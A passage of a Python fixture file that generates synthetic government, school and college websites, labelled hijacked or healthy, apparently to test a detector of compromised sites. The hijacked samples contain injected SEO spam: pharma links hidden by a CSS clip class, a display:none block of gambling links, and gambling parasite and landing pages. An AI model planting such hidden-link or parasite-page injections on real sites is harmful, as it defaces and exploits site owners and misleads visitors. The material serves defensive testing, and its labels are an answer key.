             + ", ".join(f'<a href="{u}" rel="dofollow">{t}</a>' for u, t in pharma) + "</p></div>")
    home = _en_page(title="Millbrook Community College | Affordable Degrees &amp; Career Training", desc="Millbrook Community College offers associate degrees, certificates and workforce training.",
                    site_name=name, nav=nav, posts=posts, events=events, footer_extra=block,
                    style_extra=".wpfc-footer-cache{position:absolute;clip:rect(0 0 0 0);width:1px;height:1px;overflow:hidden;white-space:nowrap}")
    pages = {"/": home, "/news/": _en_list_page(name, "News", posts)}
    for t, d, s in posts:
        pages[f"/news/{s}/"] = (f'<!DOCTYPE html><html lang="en-US"><head><meta charset="UTF-8"><title>{t} - {name}</title></head><body><article><h1>{t}</h1>'
                                f'<time datetime="{d.isoformat()}">{d:%B} {d.day}, {d.year}</time><p>{t}.</p></article></body></html>')
    site = BlindSite("millbrook", "www.millbrook.edu", name, "en", "pharma links hidden by a clip class in <style>", pages,
                     full=Truth("hijacked", False, must=("spam_content", "hidden_links"), newest=ago(2)),
                     home=Truth("hijacked", False, must=("spam_content", "hidden_links"), newest=ago(2)))
    site.columns["Latest News"] = ("news", ago(2), False)
    return site


# ---------------------------------------------------------------------------
# H11: archives bureau: homepage clean, two column pages overwritten (parasite pages).

_NEWS_ARCH = [
    "县档案馆开展“国际档案日”宣传活动", "县档案局开展机关档案工作业务指导", "我县完成2025年度档案移交进馆工作",
    "县档案馆举办“红色记忆”档案文献展", "县档案局召开全县档案工作会议", "县档案馆开展档案安全风险隐患排查",
    "我县档案数字化成果获省级表彰", "县档案馆接收一批珍贵民间档案捐赠", "县档案局开展档案执法检查",
    "县档案馆推进民生档案“跨省通办”", "县档案馆开展馆藏档案开放审核", "我县村级档案规范化管理现场会召开",
]

PARASITE_PAGE = """<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8">
<title>九游会·J9(中国)官方网站-登录入口</title>
<meta name="keywords" content="九游会,九游会j9,九游会官网,J9九游会登录入口">
<meta name="description" content="九游会·J9(中国)官方网站，真人娱乐、体育投注、电子游戏、棋牌彩票一站式平台，新用户注册送38元。">
</head><body>
<div class="top"><a href="https://www.j9-jiuyouhui.vip/reg">注册</a> | <a href="https://www.j9-jiuyouhui.vip/login">登录</a> | <a href="https://www.j9-jiuyouhui.vip/app">APP下载</a></div>
<h1>九游会·J9(中国)官方网站</h1>
<p>九游会是亚洲领先的线上娱乐平台，提供真人百家乐、龙虎斗、体育投注、电子游艺、捕鱼、彩票等游戏，注册即送彩金，存款秒到账。</p>
<ul>
<li><a href="https://www.j9-jiuyouhui.vip/live">真人百家乐</a></li><li><a href="https://www.j9-jiuyouhui.vip/sport">体育投注</a></li>
<li><a href="https://www.j9-jiuyouhui.vip/slot">电子游艺 PG麻将胡了</a></li><li><a href="https://www.j9-jiuyouhui.vip/lottery">时时彩 六合彩</a></li>
<li><a href="https://www.kaiyun-ty2025.com/">开云体育</a></li><li><a href="https://www.hth-huatihui.com/">华体会体育</a></li>
</ul>
<p>相关推荐：九游会j9官网入口、九游会app下载、九游会真人、九游会体育。</p>
</body></html>"""


def _h11() -> BlindSite:
    name = "清溪县档案馆"
    cols = [
        Column("工作动态", "news", "gzdt", _mk(_NEWS_ARCH, [1, 3, 5, 7, 8, 11, 13, 16, 19, 22])),
        Column("通知公告", "notice", "tzgg", _mk(_NOTICE_ZH, [4, 13, 24, 40, 58, 81, 107, 140])),
        Column("档案编研", "other", "dabj", _mk(_NEWS_ARCH[3:] + _NEWS_ARCH[:3], [10, 35, 60, 95, 130, 190])),
        Column("政策法规", "policy", "zcfg", _mk(_POLICY_ZH, [25, 60, 100, 140, 170])),
    ]
    # 工作动态's list page replaced whole; 通知公告's list keeps its list with a spam block in it
    cols[0].page = PARASITE_PAGE
    spam_block = ('<div class="related" style="display:none">'
                  '<a href="https://www.kaiyun-ty2025.com/">开云体育官网</a><a href="https://www.ayx-aiyouxi.com/">爱游戏体育</a>'
                  '<a href="https://www.amlhc-kj.com/">澳门六合彩开奖</a><a href="https://www.bjl-zhenren.net/">真人百家乐</a></div>')
    menu = [
        ("机构概况", "jggk", ["单位简介", "领导信息", "内设机构"]),
        ("档案工作", "dagz", ["工作动态", "业务指导", "档案执法", "档案安全"]),
        ("档案利用", "daly", ["查档指南", "开放目录", "民生档案", "跨省通办"]),
        ("档案编研", "dabj", ["编研成果", "清溪记忆", "档案故事", "图片档案"]),
        ("信息公开", "xxgk", ["政策法规", "规划计划", "财政资金", "人事信息"]),
    ]
    home = _zh_portal(
        site_name=name, title=name, keywords="清溪档案,档案馆,查档", description="清溪县档案馆网站",
        cols=cols, menu=menu, sitecode="3311270052", icp="浙ICP备10215512号", police="33112702000722", leader_box=False,
    )
    site = BlindSite("qxarchive", "daj.qingxi.gov.cn", name, "zh", "parasite column pages, clean homepage", {"/": home},
                     full=Truth("hijacked", False, must=("spam_content",), newest=ago(1)),
                     home=Truth("healthy", True, must_not=HIJACK_CODES, newest=ago(1)))
    _finish(site, cols, {"tzgg": ("", spam_block)})
    # the replaced page lists nothing of the column's: the column's newest is its homepage block's
    return site


# ---------------------------------------------------------------------------
# H12: science association: the homepage replaced by a gambling landing page.

def _h12() -> BlindSite:
    name = "清溪县科学技术协会"
    landing = GAMBLING_LANDING.replace("澳门新葡京官网-澳门新葡京娱乐场|官方唯一指定入口", "九游会·J9(中国)官方网站-登录入口 - 清溪县科学技术协会")
    extra = "".join(
        f'<div class="news"><a href="/news/{i}.html">{t}</a></div>' for i, t in enumerate(
            ["九游会官网注册送38元彩金", "真人百家乐稳赢技巧", "PG电子麻将胡了爆分攻略", "体育投注滚球玩法", "六合彩开奖直播"])
    )
    landing = landing.replace("</body>", extra + "</body>")
    site = BlindSite("qxkx", "kx.qingxi.gov.cn", name, "zh", "homepage replaced by a gambling landing", {"/": landing},
                     full=Truth("hijacked", False, must=("spam_content",)),
                     home=Truth("hijacked", False, must=("spam_content",)))
    return site


# ---------------------------------------------------------------------------
# Clean sites that look suspicious

_NEWS_SPORT = [
    "市体育局召开2026年冬季全民健身工作推进会", "我市运动员在全国锦标赛上夺得两金一银", "2026清溪山地马拉松鸣枪开跑",
    "体彩公益金助力建设15个社区多功能运动场", "市体育局开展体育场馆安全生产大检查", "我市举办第十届全民运动会闭幕式",
    "中国体育彩票“公益体彩 乐善人生”主题活动走进社区", "市体育局召开青少年体育工作会议", "全市社会体育指导员培训班开班",
    "我市启动冬季长跑活动", "市体育局组织开展体育彩票市场专项检查", "我市新建成10条健身步道",
]


def _c1() -> BlindSite:
    name = "清源市体育局"
    notices = [
        "关于公开招募中国体育彩票实体店代销者的公告", "关于2026年度体育彩票公益金资助项目申报的通知", "关于举办2026年清源市青少年足球联赛的通知",
        "关于公布清源市第二批全民健身示范社区名单的公示", "关于体育彩票销售网点布局规划（2026-2028年）征求意见的公告",
        "关于2026年社会体育指导员等级评定结果的公示", "关于体育场馆冬季免费低收费开放的公告", "关于中国体育彩票实体店代销者招募评审结果的公示",
    ]
    cols = [
        Column("体育要闻", "news", "tyyw", _mk(_NEWS_SPORT, [0, 1, 3, 5, 7, 9, 10, 12, 15, 18])),
        Column("通知公告", "notice", "tzgg", _mk(notices, [2, 8, 16, 25, 37, 52, 70, 91])),
        Column("体彩动态", "news", "tcdt", _mk(["体彩公益金助力建设15个社区多功能运动场", "中国体育彩票“公益体彩 乐善人生”主题活动走进社区",
                                                   "市体彩中心开展“责任彩票”宣传周活动", "体彩代销者业务培训班举办", "体育彩票“未成年人不得购买”警示宣传进网点",
                                                   "市体育局组织开展体育彩票市场专项检查"], [1, 4, 6, 11, 16, 22])),
        Column("政策法规", "policy", "zcfg", _mk(["清源市全民健身实施计划（2026—2030年）", "《彩票管理条例实施细则》解读",
                                                    "清源市体育彩票公益金使用管理办法", "清源市公共体育设施管理办法", "关于加快发展体育产业促进体育消费的实施意见"], [18, 45, 77, 120, 160])),
        Column("人事信息", "personnel", "rsxx", _mk(["清源市体育运动学校2026年公开招聘教练员公告", "市体育局关于拟任职干部的公示",
                                                     "清源市体育局直属事业单位2026年公开招聘拟聘用人员公示"], [40, 120, 200])),
    ]
    head = ('<script type="text/javascript">if(/Android|iPhone|iPad|iPod|Mobile/i.test(navigator.userAgent)){window.location.href="http://m.tyj.qingyuan.gov.cn/";}</script>')
    body_extra = (
        '<div class="w1200 box"><div class="tit"><span>体彩公益</span></div><p>中国体育彩票是国家公益彩票，体彩公益金用于全民健身和奥运争光计划。'
        '购彩请到正规体彩实体店，理性购彩，量力而行。未成年人不得购买彩票及兑奖。</p>'
        '<p>本市现有体育彩票实体店628个，可在“中国体育彩票”APP查询附近网点。竞彩足球、大乐透、排列3、排列5、七星彩、顶呱刮即开票均在网点销售。</p></div>'
        '<div class="float-ad" id="fad"><a href="/ztzl/qmjs/"><img src="/images/qmjs.png" alt="全民健身"></a><span class="close" onclick="document.getElementById(\'fad\').style.display=\'none\'">关闭</span></div>'
    )
    menu = [
        ("机构概况", "jggk", ["单位简介", "领导信息", "内设机构", "直属单位"]),
        ("体育动态", "tydt", ["体育要闻", "体彩动态", "区县动态", "图片新闻"]),
        ("信息公开", "xxgk", ["政策法规", "规划计划", "财政资金", "人事信息", "体育彩票公益金", "统计信息"]),
        ("全民健身", "qmjs", ["健身场馆", "健身指导", "赛事活动", "体质监测"]),
        ("竞技体育", "jjty", ["赛事成绩", "运动员风采", "训练基地"]),
        ("办事服务", "bsfw", ["办事指南", "表格下载", "体育社会组织"]),
        ("互动交流", "hdjl", ["局长信箱", "咨询投诉", "征集调查"]),
    ]
    home = _zh_portal(
        site_name=name, title=name, keywords="清源体育,全民健身,体育彩票,体彩公益金", description="清源市体育局门户网站",
        cols=cols, menu=menu, sitecode="3309000031", icp="浙ICP备09031245号", police="33090202000316",
        head_extra=head, body_extra=body_extra, leader_box=False,
    )
    site = BlindSite("qyty", "tyj.qingyuan.gov.cn", name, "zh", "", {"/": home},
                     full=Truth("healthy", True, must_not=HIJACK_CODES, newest=ago(0)),
                     home=Truth("healthy", True, must_not=HIJACK_CODES, newest=ago(0)))
    return _finish(site, cols)


def _c2() -> BlindSite:
    """Taiwan's lottery regulator (財政部國庫署) and its 公益彩券 pages."""
    name = "財政部國庫署"
    news = ["國庫署公布115年10月公益彩券銷售及盈餘分配情形", "財政部核定第5屆運動彩券發行機構甄選結果", "115年度公益彩券經銷商遴選作業開始受理",
            "國庫署提醒民眾：未滿18歲不得購買或兌領彩券", "公益彩券盈餘挹注國民年金及全民健保成果說明", "國庫署召開彩券監理委員會第42次會議",
            "防制網路非法簽賭，國庫署與警政署合作宣導", "115年度中央政府總預算案國庫收支情形", "國庫署發布115年10月底中央政府債務餘額",
            "運動彩券銷售額創新高，盈餘挹注運動發展基金"]
    notices = ["公告第5屆公益彩券發行機構電腦型彩券新增遊戲「雙贏彩」規則修正", "公告115年度公益彩券經銷商遴選須知",
               "公告修正「公益彩券發行機構監督管理要點」", "公告運動彩券發行條例施行細則修正草案預告", "公告115年第2期國庫券標售結果",
               "公告彩券中獎獎金領獎期限說明", "公告115年度身心障礙者公益彩券經銷商名冊", "公告國庫署115年度約聘人員甄選"]
    cols = [
        Column("新聞稿", "news", "news", _mk(news, [1, 3, 6, 8, 12, 15, 19, 23, 28, 33])),
        Column("公告事項", "notice", "notice", _mk(notices, [2, 9, 20, 31, 47, 66, 80, 101])),
    ]
    body = (
        '<div class="group-list"><div class="in"><div class="hd"><h3>公益彩券專區</h3></div><div class="ct">'
        '<p>公益彩券依「公益彩券發行條例」發行，由財政部主管，發行機構為台灣彩券公司。電腦型彩券（威力彩、大樂透、今彩539、3星彩、4星彩、賓果賓果）'
        '及立即型彩券（刮刮樂）之盈餘，分配予國民年金、全民健康保險準備及地方政府社會福利。運動彩券依「運動彩券發行條例」發行，盈餘挹注運動發展基金。</p>'
        '<p>警語：未滿十八歲者，不得購買或兌領彩券。請理性購買彩券，勿沉迷；網路上非經核准之「彩券」「運彩」「百家樂」「娛樂城」均屬非法賭博，民眾切勿參與。'
        '如有賭博成癮困擾，請撥打衛生福利部安心專線1925。</p>'
        '<ul><li><a href="/cp.aspx?n=510">彩券發行及盈餘分配</a></li><li><a href="/cp.aspx?n=511">彩券經銷商</a></li><li><a href="/cp.aspx?n=512">運動彩券</a></li>'
        '<li><a href="/cp.aspx?n=513">彩券相關法規</a></li><li><a href="/cp.aspx?n=514">彩券盈餘運用情形</a></li><li><a href="https://www.taiwanlottery.com/">台灣彩券網站</a></li></ul>'
        '</div></div></div>'
    )
    home = _tw_portal(name, "財政部國庫署-公益彩券專區", cols, body)
    home = home.replace('<meta name="Description" content="ｂｅｔ３６５體育投注、百家樂、線上娛樂城推薦、運彩分析，註冊即送體驗金">',
                        '<meta name="Description" content="財政部國庫署：國庫收支、公共債務、公益彩券及菸酒管理">')
    home = home.replace('<meta name="Keywords" content="娛樂城,線上娛樂城,百家樂,運彩,ｂｅｔ３６５,老虎機">',
                        '<meta name="Keywords" content="國庫署,公益彩券,運動彩券,公共債務,菸酒管理">')
    home = home.replace("臺北市大安區新生南路二段86號", "臺北市中正區愛國西路2號").replace("(02)2351-1711", "(02)2322-8000")
    pages = {"/": home, "/Default.aspx": home}
    for col in cols:
        rows = "".join(
            f'<tr><td><a href="/News_Content.aspx?n={col.slug}&amp;s={_dt(d).replace("-", "")}{i}">{t}</a></td><td>{_roc(d)}</td><td>{name}</td></tr>'
            for i, (t, d) in enumerate(col.items)
        )
        pages[f"/News.aspx?n={col.slug}"] = (
            f'<!DOCTYPE html><html lang="zh-Hant-TW"><head><meta charset="utf-8"><title>{col.name}-{name}</title></head><body>'
            f'<div class="path">現在位置：<a href="/">首頁</a> &gt; {col.name}</div><h2>{col.name}</h2>'
            f'<table class="table-list"><thead><tr><th>標題</th><th>發布日期</th><th>發布單位</th></tr></thead><tbody>{rows}</tbody></table>'
            f'<div class="page">共{len(col.items)}筆資料，第1/1頁</div><div class="footer">{name}</div></body></html>'
        )
    site = BlindSite("nta", "www.nta.gov.tw", name, "zh-Hant", "", pages,
                     full=Truth("healthy", True, must_not=HIJACK_CODES, newest=ago(1)),
                     home=Truth("healthy", True, must_not=HIJACK_CODES, newest=ago(1)))
    for col in cols:
        site.columns[col.name] = (col.type, col.newest, False)
    return site


def _c3() -> BlindSite:
    """A state problem-gambling program: casino, slots, sports betting, poker all over
    it; a GTM noscript iframe of 0x0 (Google's own, hidden), screen-reader-only text."""
    name = "Problem Gambling Services"
    nav = [
        ("Get Help", ["Call the Helpline", "Text or Chat", "Find a Counselor", "Self-Exclusion", "Help for Families"]),
        ("Learn", ["Signs of a Problem", "Sports Betting", "Online Casinos", "Gambling and Youth", "Gambling and Seniors", "Myths and Facts"]),
        ("Providers", ["Treatment Providers", "Training", "Certification", "Billing", "Data and Reports"]),
        ("Prevention", ["Campaign Toolkit", "School Curriculum", "Community Grants", "Responsible Gaming"]),
        ("About", ["Our Program", "Advisory Committee", "Funding", "Contact Us"]),
    ]
    posts_data = [
        ("Sports Betting Season: Know the Warning Signs", 2, "sports-betting-warning-signs"),
        ("New Self-Exclusion Program Covers All Casinos and Online Sportsbooks", 7, "self-exclusion-program"),
        ("Free Counseling for Family Members Affected by Gambling", 12, "family-counseling"),
        ("Problem Gambling Awareness Grants Awarded to 14 Communities", 18, "awareness-grants"),
        ("Youth and Loot Boxes: What Parents Should Know", 25, "loot-boxes"),
        ("Annual Report: Helpline Calls Up 22% After Online Betting Launch", 40, "annual-report"),
    ]
    posts = [(t, ago(a), s) for t, a, s in posts_data]
    events = [("Gamblers Anonymous Family Night", TODAY + dt.timedelta(days=5)), ("Provider Training: Treating Gambling Disorder", TODAY + dt.timedelta(days=12))]
    body = (
        '<section class="help"><h2>Is gambling causing problems for you or someone you love?</h2>'
        '<p>Whether it is slot machines, casino table games like blackjack and baccarat, online poker, the lottery, or sports betting on your phone, '
        'gambling can become a problem for anyone. Free, confidential help is available 24/7. Call <a href="tel:18776948546">1-877-MY-LIMIT</a> or text "HOPE" to 53342.</p>'
        '<ul><li>Do you bet more than you can afford to lose?</li><li>Have you borrowed money or sold anything to gamble?</li>'
        '<li>Do you chase losses at the casino or online sportsbook?</li><li>Have you lied to family members about your betting?</li></ul>'
        '<p><a href="https://www.ncpgambling.org/">National Council on Problem Gambling</a> | <a href="https://www.gamblersanonymous.org/">Gamblers Anonymous</a> | '
        '<a href="https://www.samhsa.gov/">SAMHSA</a></p></section>'
    )
    head = ('<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({"gtm.start":new Date().getTime(),event:"gtm.js"});var f=d.getElementsByTagName(s)[0],'
            'j=d.createElement(s),dl=l!="dataLayer"?"&l="+l:"";j.async=true;j.src="https://www.googletagmanager.com/gtm.js?id="+i+dl;f.parentNode.insertBefore(j,f);})'
            '(window,document,"script","dataLayer","GTM-5XK2P7Q");</script>')
    gtm = ('<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-5XK2P7Q" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>'
           '<div class="screen-reader-text"><a href="https://www.oregon.gov/oha/">Oregon Health Authority</a></div>')
    home = _en_page(title="Problem Gambling Services | Oregon Health Authority", desc="Free, confidential help for problem gambling, casino and sports betting addiction, for gamblers and their families.",
                    site_name=name, nav=nav, posts=posts, events=events, body_extra=body, head_extra=head, footer_extra=gtm)
    noscript, sr_only = gtm.split("<div", 1)
    home = home.replace(gtm, "<div" + sr_only).replace('<body class="home page-template-default page page-id-2 wp-embed-responsive">',
                        '<body class="home page-template-default page page-id-2 wp-embed-responsive">' + noscript, 1)
    pages = {"/": home, "/news/": _en_list_page(name, "News", posts)}
    for t, d, s in posts:
        pages[f"/news/{s}/"] = (f'<!DOCTYPE html><html lang="en-US"><head><meta charset="UTF-8"><title>{t} - {name}</title></head><body><article><h1>{t}</h1>'
                                f'<time datetime="{d.isoformat()}">{d:%B} {d.day}, {d.year}</time><p>{t}. Call 1-877-MY-LIMIT for free help.</p></article></body></html>')
    site = BlindSite("opgs", "www.opgr.oregon.gov", name, "en", "", pages,
                     full=Truth("healthy", True, must_not=HIJACK_CODES, newest=ago(2)),
                     home=Truth("healthy", True, must_not=HIJACK_CODES, newest=ago(2)))
    site.columns["Latest News"] = ("news", ago(2), False)
    return site


_NEWS_SCHOOL = [
    "我校召开2026学年第一学期期中教学质量分析会", "我校学子在市中学生运动会上获佳绩", "我校开展“远离网络赌博 珍爱美好青春”主题班会",
    "我校举行秋季消防应急疏散演练", "高二年级开展研学实践活动", "我校教师在省优质课评比中获一等奖",
    "我校开展防范电信网络诈骗和网络赌博专题讲座", "我校举行第十二届校园科技节", "我校召开家长会共话家校共育",
    "我校开展心理健康教育月活动", "我校团委组织学生志愿者走进社区", "我校举办“宪法宣传周”系列活动",
]


def _c4() -> BlindSite:
    name = "清源市第二中学"
    cols = [
        Column("学校新闻", "news", "xxxw", _mk(_NEWS_SCHOOL, [1, 2, 4, 6, 8, 9, 12, 14, 18, 21])),
        Column("通知公告", "notice", "tzgg", _mk(["关于2026学年第一学期期末考试安排的通知", "关于寒假放假及安全教育的通知",
                                                   "关于2027年高中招生咨询会的公告", "关于学生资助申请的通知", "关于校服征订的公告",
                                                   "关于开展预防网络赌博家长告知书签收工作的通知"], [3, 10, 21, 34, 50, 66])),
        Column("德育天地", "other", "dytd", _mk(["我校开展“远离网络赌博 珍爱美好青春”主题班会", "我校开展防范电信网络诈骗和网络赌博专题讲座",
                                                   "青春期心理健康讲座走进高一年级", "我校开展禁毒教育主题活动", "“文明礼仪伴我行”主题升旗仪式"], [2, 9, 15, 24, 33])),
        Column("教学科研", "other", "jxky", _mk(_NEWS_SCHOOL[5:] + _NEWS_SCHOOL[:5], [5, 11, 17, 26, 38, 45])),
    ]
    body = (
        '<div class="w1200 box"><div class="tit"><span>专题：预防青少年网络赌博</span><a class="more" href="/dytd/">更多&gt;&gt;</a></div>'
        '<p>近年来，网络赌博向青少年蔓延，一些不法分子借助短视频、游戏群、QQ群，以“网络兼职”“刷单返利”“体育竞猜”“充值返现”为名，'
        '诱导学生下载所谓“开云体育”“九游会”等境外赌博APP，参与“百家乐”“时时彩”“六合彩”“电子游艺”等网络赌博，甚至出租、出售银行卡、微信账号为赌博网站“跑分”洗钱。</p>'
        '<p>学校提醒：网络赌博“十赌九骗”，所谓“稳赢计划”“内部消息”“注册送彩金”都是诱饵；发现同学参与赌博或被诱导出借银行卡，请及时告诉班主任或拨打110。'
        '家长要关注孩子手机支付和游戏充值情况。</p>'
        '<ul><li><a href="/dytd/202611/t20261118_4300000.html">主题班会：远离网络赌博 珍爱美好青春</a></li><li><a href="/dytd/202611/t20261111_4300001.html">专题讲座：识破网络赌博和电诈套路</a></li>'
        '<li><a href="/tzgg/">预防网络赌博家长告知书</a></li></ul></div>'
    )
    menu = [
        ("学校概况", "xxgk", ["学校简介", "校长寄语", "领导班子", "校园风光", "办学特色", "历史沿革"]),
        ("学校新闻", "xxxw", ["学校新闻", "图片新闻", "媒体报道"]),
        ("德育天地", "dytd", ["德育动态", "主题班会", "心理健康", "安全教育", "团队活动"]),
        ("教学科研", "jxky", ["教研动态", "课题研究", "名师风采", "教学资源"]),
        ("学生天地", "xstd", ["学生社团", "学生作品", "荣誉榜"]),
        ("招生专栏", "zszl", ["招生政策", "招生计划", "录取查询"]),
        ("党建工作", "djgz", ["党建动态", "清廉学校", "主题教育"]),
    ]
    home = _zh_portal(
        site_name=name, title=name, keywords="清源二中,清源市第二中学", description="清源市第二中学官方网站",
        cols=cols, menu=menu, sitecode="", icp="浙ICP备13021455号-1", police="33090202000588",
        body_extra=body, leader_box=False, gov=False,
    )
    site = BlindSite("qyez", "www.qyez.net", name, "zh", "", {"/": home},
                     full=Truth("healthy", True, must_not=HIJACK_CODES, newest=ago(1)),
                     home=Truth("healthy", True, must_not=HIJACK_CODES, newest=ago(1)))
    return _finish(site, cols)


def _c5() -> BlindSite:
    name = "清源市财政局"
    news = ["市财政局召开2027年部门预算编制工作布置会", "市财政局开展财会监督专项行动", "全市政府采购业务培训会召开",
            "市财政局推进预算管理一体化建设", "市财政局开展惠民惠农财政补贴资金“一卡通”专项治理", "市财政局召开党风廉政建设工作会议",
            "1-10月全市一般公共预算收入运行情况", "市财政局开展地方政府专项债券项目穿透式监测", "市财政局举办“财政开放日”活动",
            "市财政局加快专项债券资金支出进度"]
    notices = ["清源市2025年度彩票公益金使用情况公告", "关于下达2026年中央专项彩票公益金支持地方社会公益事业发展资金的通知",
               "关于2026年度市级福利彩票公益金资助项目申报的通知", "清源市2025年度体育彩票公益金使用情况公告",
               "关于2027年市级部门预算公开的公告", "关于开展2026年度会计人员继续教育的通知", "关于政府采购代理机构监督检查结果的公告",
               "关于2026年度市本级政府性基金预算调整的公告"]
    cols = [
        Column("财政要闻", "news", "czyw", _mk(news, [1, 2, 4, 7, 9, 11, 13, 16, 20, 24])),
        Column("通知公告", "notice", "tzgg", _mk(notices, [3, 12, 19, 33, 48, 60, 75, 99])),
        Column("预决算公开", "finance", "yjsgk", _mk(["清源市2026年市级财政预算执行情况", "清源市2025年市级决算报告", "清源市2026年市级部门预算汇总",
                                                       "清源市2025年度彩票公益金收支决算表"], [30, 100, 200, 210])),
        Column("政策法规", "policy", "zcfg", _mk(["清源市彩票公益金管理办法", "清源市市级财政专项资金管理办法", "关于进一步加强财会监督工作的实施意见",
                                                    "清源市政府采购负面清单", "清源市政府性债务风险应急处置预案"], [14, 50, 95, 130, 176])),
    ]
    body = (
        '<div class="w1200 box"><div class="tit"><span>彩票公益金使用情况</span></div>'
        '<table class="tb" width="100%"><tr><th>项目</th><th>福利彩票公益金（万元）</th><th>体育彩票公益金（万元）</th></tr>'
        '<tr><td>养老服务</td><td>3,215</td><td>-</td></tr><tr><td>全民健身</td><td>-</td><td>2,860</td></tr>'
        '<tr><td>残疾人事业</td><td>980</td><td>420</td></tr><tr><td>未成年人保护</td><td>560</td><td>-</td></tr>'
        '<tr><td>合计</td><td>4,755</td><td>3,280</td></tr></table>'
        '<p>根据《彩票管理条例》《彩票公益金管理办法》，彩票公益金按照“取之于民、用之于民”的原则，专项用于社会福利、体育等社会公益事业，不用于平衡一般公共预算。</p></div>'
    )
    menu = [
        ("机构概况", "jggk", ["单位简介", "领导信息", "内设机构", "直属单位"]),
        ("财政动态", "czdt", ["财政要闻", "区县动态", "图片新闻"]),
        ("信息公开", "xxgk", ["政策法规", "预决算公开", "彩票公益金", "政府债务", "规划计划", "人事信息", "统计数据"]),
        ("政府采购", "zfcg", ["采购公告", "采购政策", "投诉处理"]),
        ("会计管理", "kjgl", ["会计人员", "代理记账", "继续教育"]),
        ("互动交流", "hdjl", ["局长信箱", "咨询投诉", "征集调查"]),
    ]
    home = _zh_portal(
        site_name=name, title=name, keywords="清源财政,彩票公益金,预决算公开,政府采购", description="清源市财政局门户网站",
        cols=cols, menu=menu, sitecode="3309000044", icp="浙ICP备09031288号", police="33090202000401",
        body_extra=body, leader_box=False,
    )
    site = BlindSite("qycz", "czj.qingyuan.gov.cn", name, "zh", "", {"/": home},
                     full=Truth("healthy", True, must_not=HIJACK_CODES, newest=ago(1)),
                     home=Truth("healthy", True, must_not=HIJACK_CODES, newest=ago(1)))
    return _finish(site, cols)


def build_sites() -> list[BlindSite]:
    return [_h1(), _h2(), _h3(), _h4(), _h5(), _h6(), _h7(), _h8(), _h9(), _h10(), _h11(), _h12(),
            _c1(), _c2(), _c3(), _c4(), _c5()]


SITES = build_sites()
SITES_BY_KEY = {s.key: s for s in SITES}
# the farm also serves the gambling host H8's meta refresh points at
EXTRA_HOSTS = {REFRESH_TARGET_HOST: {"/": GAMBLING_LANDING}}
